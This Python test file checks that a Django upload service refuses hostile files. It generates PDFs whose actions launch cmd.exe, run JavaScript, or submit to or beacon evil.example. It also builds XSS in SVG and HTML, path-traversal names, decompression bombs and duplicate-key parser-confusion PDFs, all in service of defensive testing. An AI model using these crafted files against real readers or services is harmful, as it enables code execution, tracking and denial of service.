"""A corpus of hostile uploads: each refused with a clear Italian message, nothing written to storage or
to the database. Files are built by the test itself (no binary fixtures in the repository)."""
import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject,
                           TextStringObject)

from operations.demo import minimal_pdf
from evidence import services as evidence_services
from ot24portal.filestore import storage
from tests.factories import evidence_draft

pytestmark = pytest.mark.django_db


def pdf_with(**catalog_entries) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    for key, value in catalog_entries.items():
        writer._root_object[NameObject(f"/{key}")] = value
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def js_pdf() -> bytes:
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1);")})
    return pdf_with(OpenAction=action)


def launch_pdf() -> bytes:
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    return pdf_with(OpenAction=action)


def attachment_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("virus.exe", b"MZ\x90\x00")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("x")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str, indirect_s: bool = False, writer: PdfWriter | None = None, **entries) -> DictionaryObject:
    s = NameObject(f"/{kind}")
    if indirect_s:
        s = writer._add_object(s)  # "/S 7 0 R": the action type is an indirect object
    return DictionaryObject({NameObject("/S"): s, **{NameObject(f"/{k}"): v for k, v in entries.items()}})


def rect() -> ArrayObject:
    return ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)])


def pdf_with_annotation(build) -> bytes:
    """One page whose only annotation is build(writer, page): an indirect annotation dictionary."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    annotation = build(writer, page)
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def link(action_dict) -> DictionaryObject:
    return DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                             NameObject("/Rect"): rect(), NameObject("/A"): action_dict})


def launch_indirect_pdf() -> bytes:
    return pdf_with_annotation(lambda w, p: link(action("Launch", True, w, F=TextStringObject("cmd.exe"))))


def submit_indirect_pdf() -> bytes:
    return pdf_with_annotation(lambda w, p: link(action("SubmitForm", True, w, F=TextStringObject("https://evil.example/raccolta"))))


def import_data_indirect_pdf() -> bytes:
    return pdf_with_annotation(lambda w, p: link(action("ImportData", True, w, F=TextStringObject("dati.fdf"))))


def goto_embedded_pdf() -> bytes:
    return pdf_with_annotation(lambda w, p: link(action("GoToE", T=DictionaryObject(
        {NameObject("/R"): NameObject("/C"), NameObject("/N"): TextStringObject("allegato.pdf")}))))


def file_attachment_annotation_pdf() -> bytes:
    def build(writer, page):
        payload = DecodedStreamObject()
        payload.set_data(b"MZ\x90\x00")
        payload[NameObject("/Type")] = NameObject("/EmbeddedFile")
        spec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("virus.exe"),
                                 NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(payload)})})
        return DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
                                 NameObject("/Rect"): rect(), NameObject("/FS"): spec})
    return pdf_with_annotation(build)


def rich_media_annotation_pdf() -> bytes:
    return pdf_with_annotation(lambda w, p: DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/RichMedia"), NameObject("/Rect"): rect(),
        NameObject("/RichMediaContent"): DictionaryObject({NameObject("/Assets"): DictionaryObject()})}))


def javascript_through_parent_pdf() -> bytes:
    """A form widget on the page whose field (reachable only as the widget's /Parent, not listed in any
    AcroForm) runs JavaScript on keystrokes."""
    def build(writer, page):
        field = writer._add_object(DictionaryObject({
            NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("importo"),
            NameObject("/AA"): DictionaryObject({NameObject("/K"): action("JavaScript", JS=TextStringObject("app.launchURL('https://evil.example');"))})}))
        return DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
                                 NameObject("/Rect"): rect(), NameObject("/Parent"): field})
    return pdf_with_annotation(build)


def uri_on_open_pdf() -> bytes:
    return pdf_with(OpenAction=action("URI", URI=TextStringObject("https://evil.example/traccia")))


def remote_goto_on_open_pdf() -> bytes:
    return pdf_with(OpenAction=action("GoToR", F=TextStringObject("altro.pdf"),
                                      D=ArrayObject([NameObject("/0"), NameObject("/Fit")])))


def goto_then_uri_on_open_pdf() -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    writer._root_object[NameObject("/OpenAction")] = action(
        "GoTo", D=ArrayObject([page.indirect_reference, NameObject("/Fit")]),
        Next=action("URI", URI=TextStringObject("https://evil.example/traccia")))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def uri_on_page_open_pdf() -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("URI", URI=TextStringObject("https://evil.example/pagina"))})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, format="PNG")
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 100
EXE = b"MZ\x90\x00\x03" + b"\x00" * 100
ZIP = b"PK\x03\x04" + b"\x00" * 100

CORPUS = [
    # (name, content, message fragment)
    ("fattura.pdf", EXE, "Tipo di file non ammesso"),
    ("fattura.pdf", ELF, "Tipo di file non ammesso"),
    ("documento.pdf", ZIP, "Tipo di file non ammesso"),
    ("pagina.html", HTML, "Tipo di file non ammesso"),
    ("pagina.pdf", HTML, "Tipo di file non ammesso"),
    ("logo.svg", SVG, "Tipo di file non ammesso"),
    ("logo.png", SVG, "Tipo di file non ammesso"),
    ("script.js", b"alert(1)", "Tipo di file non ammesso"),
    ("documento.exe", minimal_pdf("x"), "rinominare il file"),  # a PDF with the wrong extension
    ("foto.jpg", png_bytes(), "rinominare il file"),
    ("nessuna_estensione", minimal_pdf("x"), "rinominare il file"),
    ("javascript.pdf", js_pdf(), "script, azioni automatiche"),
    ("launch.pdf", launch_pdf(), "script, azioni automatiche"),
    ("allegato.pdf", attachment_pdf(), "script, azioni automatiche"),
    # Active content behind indirection, in annotations, through /Parent, or run on opening (item 4)
    ("launch-indiretto.pdf", launch_indirect_pdf(), "script, azioni automatiche"),
    ("invio-modulo-indiretto.pdf", submit_indirect_pdf(), "script, azioni automatiche"),
    ("importa-dati-indiretto.pdf", import_data_indirect_pdf(), "script, azioni automatiche"),
    ("vai-a-incorporato.pdf", goto_embedded_pdf(), "script, azioni automatiche"),
    ("annotazione-allegato.pdf", file_attachment_annotation_pdf(), "script, azioni automatiche"),
    ("rich-media.pdf", rich_media_annotation_pdf(), "script, azioni automatiche"),
    ("javascript-dal-parent.pdf", javascript_through_parent_pdf(), "script, azioni automatiche"),
    ("uri-all-apertura.pdf", uri_on_open_pdf(), "script, azioni automatiche"),
    ("gotor-all-apertura.pdf", remote_goto_on_open_pdf(), "script, azioni automatiche"),
    ("goto-poi-uri-all-apertura.pdf", goto_then_uri_on_open_pdf(), "script, azioni automatiche"),
    ("uri-all-apertura-pagina.pdf", uri_on_page_open_pdf(), "script, azioni automatiche"),
    ("cifrato.pdf", encrypted_pdf(), "protetto da password"),
    ("troncato.pdf", minimal_pdf("troncato")[:80], "danneggiato o illeggibile"),
    ("vuoto.pdf", b"", "vuoto"),
    ("solo-intestazione.pdf", b"%PDF-1.7\n", "danneggiato o illeggibile"),
    ("poliglotta.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>", "danneggiato o illeggibile"),
    ("immagine-rotta.png", png_bytes()[:30], "danneggiata o illeggibile"),
    ("immagine-rotta.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 20, "danneggiata o illeggibile"),
    ("firmato.p7m", b"\x30\x82\x00\x10" + b"\x00" * 16, "busta firmata"),
    ("finto.p7m", b"\x30\x80" + zlib.compress(b"nothing"), "busta firmata"),
    ("../../etc/passwd.pdf", EXE, "Tipo di file non ammesso"),
    ("nul\x00byte.pdf", HTML, "Tipo di file non ammesso"),
    ("a" * 400 + ".pdf", EXE, "Tipo di file non ammesso"),
    ("документ.pdf", ZIP, "Tipo di file non ammesso"),
]


@pytest.fixture
def draft():
    return evidence_draft()


def stored():
    return sorted(p for p in storage.root().rglob("*") if p.is_file())


def test_corpus_has_at_least_25_files():
    assert len(CORPUS) >= 25


@pytest.mark.parametrize("name,content,message", CORPUS, ids=[f"{i:02d}-{c[0][:20]}" for i, c in enumerate(CORPUS)])
def test_hostile_upload_refused(draft, name, content, message):
    app, rep, item = draft
    before = stored()
    with pytest.raises(ValidationError, match=message):
        evidence_services.evidence_add(user=rep, application=app, evidence_item=item,
                              uploaded_file=SimpleUploadedFile(name, content))
    assert not app.evidence_files.exists()
    assert stored() == before


def test_oversized_file_refused(draft, settings):
    app, rep, item = draft
    settings.OT24_MAX_FILE_BYTES = 1024
    before = stored()
    with pytest.raises(ValidationError, match="supera il limite"):
        evidence_services.evidence_add(user=rep, application=app, evidence_item=item,
                              uploaded_file=SimpleUploadedFile("grande.pdf", minimal_pdf("x" * 5000)))
    assert stored() == before and not app.evidence_files.exists()


@pytest.mark.parametrize("name,kept", [("../../etc/evil.pdf", "evil.pdf"), ("C:\\\\Windows\\\\x.pdf", "x.pdf"),
                                       ("nul\x00.pdf", "nul.pdf"), ("документ.pdf", "документ.pdf")])
def test_good_content_with_tricky_names_keeps_only_the_base_name(draft, name, kept):
    app, rep, item = draft
    evidence = evidence_services.evidence_add(user=rep, application=app, evidence_item=item,
                                     uploaded_file=SimpleUploadedFile(name, minimal_pdf(name.encode("ascii", "ignore").decode())))
    assert evidence.original_name == kept
    assert storage.path_of(evidence.storage_name).resolve().is_relative_to(storage.root().resolve())


def test_a_plain_pdf_with_navigation_is_accepted(draft):
    from pypdf.generic import ArrayObject

    app, rep, item = draft
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
    out = io.BytesIO()
    writer.write(out)
    assert evidence_services.evidence_add(user=rep, application=app, evidence_item=item,
                                 uploaded_file=SimpleUploadedFile("ok.pdf", out.getvalue()))


def test_a_plain_goto_on_open_is_accepted(draft):
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    writer._root_object[NameObject("/OpenAction")] = action("GoTo", D=ArrayObject([page.indirect_reference, NameObject("/Fit")]))
    out = io.BytesIO()
    writer.write(out)
    app, rep, item = draft
    assert evidence_services.evidence_add(user=rep, application=app, evidence_item=item,
                                 uploaded_file=SimpleUploadedFile("apre-pagina-1.pdf", out.getvalue()))


def test_weasyprint_document_with_links_and_bookmarks_is_accepted(draft):
    """What an ordinary office tool prints: internal /GoTo links, clicked /URI link annotations, outlines."""
    from weasyprint import HTML

    html = """<h1 id="inizio">Relazione</h1><p><a href="#fine">Vai alla fine</a> ·
    <a href="https://www.inail.it/">INAIL</a></p><h2 style="break-before: page" id="fine">Fine</h2>
    <p><a href="#inizio">Torna all'inizio</a></p>"""
    content = HTML(string=html).write_pdf()
    from pypdf import PdfReader

    annotations = [annot.get_object() for page in PdfReader(io.BytesIO(content)).pages for annot in page.get("/Annots", [])]
    assert any(a.get("/A", {}).get("/S") == "/URI" for a in annotations)  # a link the reader clicks
    assert any("/Dest" in a for a in annotations)  # internal navigation
    app, rep, item = draft
    assert evidence_services.evidence_add(user=rep, application=app, evidence_item=item,
                                 uploaded_file=SimpleUploadedFile("relazione.pdf", content))


# --- bounded checks (item 3): crafted files that cost a parser seconds and hundreds of MB -----------------


def whitespace_object_streams_pdf(streams: int, padding: int) -> bytes:
    """Object streams whose header starts with `padding` bytes of whitespace (1,000:1 under Flate):
    pypdf decompresses each and skips the whitespace one byte at a time. 4 x 70 MB is a 266 KB file that
    took 28 s of CPU and 400 MB in the unbounded check."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def obj(number: int, body: bytes) -> None:
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    members = {100 + s: 10 + s for s in range(streams)}
    refs = b" ".join(b"%d 0 R" % n for n in members)
    obj(1, b"<< /Type /Catalog /Pages 2 0 R /Extra [" + refs + b"] >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    for member, stream in members.items():
        compressor = zlib.compressobj(9)
        packed = b"".join(compressor.compress(b" " * (1 << 20)) for _ in range(padding >> 20))
        header = b"%d 0 " % member
        packed += compressor.compress(b" " * (padding & ((1 << 20) - 1)) + header + b"<< /A 1 >>") + compressor.flush()
        first = padding + len(header)
        obj(stream, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (first, len(packed))
            + packed + b"\nendstream")
    size = 100 + streams + 1
    xref_at = out.tell()
    rows = []
    for n in range(size):
        if n in offsets:
            rows.append(b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00")
        elif n in members:
            rows.append(b"\x02" + members[n].to_bytes(4, "big") + b"\x00\x00")
        elif n == size - 1:
            rows.append(b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x00" * 7)
    table = zlib.compress(b"".join(rows))
    out.write(b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
              % (size - 1, size, len(table)) + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def png_header_only(width: int, height: int, rows_present: int | None = None) -> bytes:
    """An RGB PNG of zero pixels, compressed a piece at a time (12,000 x 12,000 is ~420 KB on disk, 432 MB
    decoded); rows_present cuts the image data short."""
    import struct

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" * (1 + 3 * width)
    rows = height if rows_present is None else rows_present
    compressor, parts, per_piece = zlib.compressobj(9), [], max(1, (1 << 20) // len(row))
    for start in range(0, rows, per_piece):
        parts.append(compressor.compress(row * min(per_piece, rows - start)))
    parts.append(compressor.flush())
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", b"".join(parts)) + chunk(b"IEND", b""))


TOO_COMPLEX = "troppo complesso per essere controllato"


def refused(draft, name: str, content: bytes, message: str) -> None:
    app, rep, item = draft
    before = stored()
    with pytest.raises(ValidationError, match=message):
        evidence_services.evidence_add(user=rep, application=app, evidence_item=item, uploaded_file=SimpleUploadedFile(name, content))
    assert not app.evidence_files.exists()
    assert stored() == before


def test_object_stream_bomb_is_refused_within_the_memory_budget(draft):
    """The worst crafted PDF: 266 KB, four object streams of 70 MB of whitespace each."""
    content = whitespace_object_streams_pdf(4, 70 * 2**20)
    assert len(content) < 300_000
    refused(draft, "flusso-oggetti.pdf", content, TOO_COMPLEX)


def test_slow_pdf_is_refused_at_the_cpu_budget(draft, settings):
    """10 MB of whitespace fits in memory but costs pypdf about a second: over a 0.2 s budget."""
    settings.OT24_CHECK_CPU_SECONDS = 0.2
    settings.OT24_CHECK_MEMORY_BYTES = 256 * 2**20
    refused(draft, "lento.pdf", whitespace_object_streams_pdf(1, 10 * 2**20), TOO_COMPLEX)


def test_pdf_over_the_memory_budget_is_refused(draft, settings):
    settings.OT24_CHECK_CPU_SECONDS = 30
    settings.OT24_CHECK_MEMORY_BYTES = 16 * 2**20
    refused(draft, "pesante.pdf", whitespace_object_streams_pdf(1, 40 * 2**20), TOO_COMPLEX)


def test_png_of_144_megapixels_is_refused_before_decoding(draft):
    content = png_header_only(12_000, 12_000)
    assert len(content) < 600_000
    refused(draft, "enorme.png", content, "troppo grande")


def test_png_with_missing_rows_is_refused(draft):
    refused(draft, "tagliata.png", png_header_only(300, 200, rows_present=150), "danneggiata o illeggibile")


def test_large_png_within_the_pixel_cap_is_checked_without_decoding_it_whole(draft, settings):
    """36 Mpx RGB is 108 MB decoded: more than the memory budget, yet the check streams its rows."""
    app, rep, item = draft
    settings.OT24_MAX_FILE_BYTES = 2**30
    assert evidence_services.evidence_add(user=rep, application=app, evidence_item=item,
                                 uploaded_file=SimpleUploadedFile("planimetria.png", png_header_only(6_000, 6_000)))


def test_large_jpeg_photo_is_accepted(draft, settings):
    """A 48 Mpx camera photo (144 MB decoded) is decoded at an eighth of its size inside the budget."""
    app, rep, item = draft
    settings.OT24_MAX_FILE_BYTES = 2**30
    out = io.BytesIO()
    Image.new("RGB", (8_000, 6_000), "white").save(out, format="JPEG", quality=50)
    assert evidence_services.evidence_add(user=rep, application=app, evidence_item=item,
                                 uploaded_file=SimpleUploadedFile("foto.jpg", out.getvalue()))


def scanned_pdf(path, pages: int) -> None:
    """One uncompressed 1 MB image of random pixels per page (a scanner's output), written to disk."""
    import os

    width, height = 1024, 341
    offsets = []
    with open(path, "wb") as out:
        out.write(b"%PDF-1.4\n")

        def obj(number: int, body: bytes, data: bytes | None = None) -> None:
            offsets.append(out.tell())
            out.write(b"%d 0 obj\n" % number + body)
            if data is not None:
                out.write(b"\nstream\n" + data + b"\nendstream")
            out.write(b"\nendobj\n")

        obj(1, b"<< /Type /Catalog /Pages 2 0 R >>")
        obj(2, b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % (3 + 3 * i) for i in range(pages))
            + b"] /Count %d >>" % pages)
        drawing = b"q 595 0 0 198 0 600 cm /Im0 Do Q"
        for i in range(pages):
            obj(3 + 3 * i, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
                           b"/Resources << /XObject << /Im0 %d 0 R >> >> >>" % (4 + 3 * i, 5 + 3 * i))
            obj(4 + 3 * i, b"<< /Length %d >>" % len(drawing), drawing)
            pixels = os.urandom(width * height * 3)
            obj(5 + 3 * i, b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
                           b"/BitsPerComponent 8 /Length %d >>" % (width, height, len(pixels)), pixels)
        xref = out.tell()
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1))
        out.writelines(b"%010d 00000 n \n" % offset for offset in offsets)
        out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref))


def test_scanned_pdf_of_100_mb_passes_the_bounded_check(tmp_path):
    path = tmp_path / "scansione.pdf"
    scanned_pdf(path, 100)
    storage.check_pdf(str(path))  # raises RejectedFile if a budget were too tight for it


def signed_p7m(content: bytes) -> bytes:
    """A CAdES-style attached signature (PKCS#7 signed-data, DER) over content, by a throwaway certificate."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.serialization import Encoding, pkcs7
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Firmatario di prova")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(1).not_valid_before(now).not_valid_after(now + datetime.timedelta(days=1)).sign(key, hashes.SHA256()))
    return (pkcs7.PKCS7SignatureBuilder().set_data(content).add_signer(cert, key, hashes.SHA256())
            .sign(Encoding.DER, [pkcs7.PKCS7Options.Binary]))


@pytest.mark.parametrize("megabytes", [0, 19])
def test_signed_p7m_is_accepted_within_the_memory_budget(draft, settings, megabytes):
    """A 19 MB signed scan: its structure is read from the headers, not copied three times (57 MB)."""
    import os

    app, rep, item = draft
    settings.OT24_CHECK_MEMORY_BYTES = 32 * 2**20
    content = signed_p7m(minimal_pdf("firmato") + os.urandom(megabytes * 2**20))
    assert evidence_services.evidence_add(user=rep, application=app, evidence_item=item,
                                 uploaded_file=SimpleUploadedFile("domanda.pdf.p7m", content))


def test_p7m_that_is_signed_data_without_signers_is_refused(draft):
    from asn1crypto import cms

    envelope = cms.ContentInfo({"content_type": "signed_data", "content": cms.SignedData({
        "version": "v1", "digest_algorithms": [], "encap_content_info": {"content_type": "data", "content": b"x" * 1000},
        "signer_infos": []})}).dump()
    refused(draft, "vuoto.p7m", envelope, "busta firmata")


# --- duplicate keys (issue 28, finding 9): pypdf keeps the first, PDFium, qpdf and MuPDF act on the last -----


def duplicate_key_pdf(*, catalogue: bytes = b"", annotation: bytes = b"/Subtype /Link",
                      action: bytes = b"/S /GoTo /D [3 0 R /Fit]", packed: bool = False) -> bytes:
    """A page with a link annotation (object 4) and its action (object 5), written by hand: pypdf's writer
    cannot produce a dictionary with the same key twice. `packed` puts the annotation and the action in
    an object stream."""
    from tests.hostile_pdfs import pdf_with_object_streams

    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
        4: b"<< /Type /Annot " + annotation + b" /Rect [0 0 100 100] /A 5 0 R >>",
        5: b"<< " + action + b" >>",
    }
    return pdf_with_object_streams(objects, packed={4: 10, 5: 10} if packed else None)


DUPLICATE_KEYS = {
    "azione-goto-poi-launch": duplicate_key_pdf(action=b"/S /GoTo /D [3 0 R /Fit] /S /Launch /F (cmd.exe)"),
    "azione-goto-poi-launch-nome-codificato": duplicate_key_pdf(action=b"/S /GoTo /D [3 0 R /Fit] /#53 /Launch /F (cmd.exe)"),
    "azione-in-flusso-di-oggetti": duplicate_key_pdf(action=b"/S /GoTo /D [3 0 R /Fit] /S /SubmitForm /F (https://evil.example/)",
                                                     packed=True),
    "annotazione-link-poi-rich-media": duplicate_key_pdf(annotation=b"/Subtype /Link /Subtype /Screen"),
    "apertura-goto-poi-uri": duplicate_key_pdf(
        catalogue=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /URI /URI (https://evil.example/traccia) >>"),
    "apertura-pagina-poi-launch": duplicate_key_pdf(
        catalogue=b"/OpenAction [3 0 R /Fit] /OpenAction << /S /Launch /F (cmd.exe) >>"),
    "catalogo-names-vuoto-poi-javascript": duplicate_key_pdf(
        catalogue=b"/Names << >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >> >>"),
}


@pytest.mark.parametrize("name", DUPLICATE_KEYS)
def test_a_dictionary_with_a_duplicate_key_is_refused(draft, name):
    """Whichever value a reader keeps, the file is refused: pypdf alone would see the harmless first one."""
    from pypdf import PdfReader

    content = DUPLICATE_KEYS[name]
    assert len(PdfReader(io.BytesIO(content)).pages) == 1  # a readable PDF
    refused(draft, f"{name}.pdf", content, "chiavi ripetute")


def test_the_same_document_without_the_duplicate_key_is_accepted(draft):
    app, rep, item = draft
    assert evidence_services.evidence_add(user=rep, application=app, evidence_item=item,
                                          uploaded_file=SimpleUploadedFile("link.pdf", duplicate_key_pdf(packed=True)))
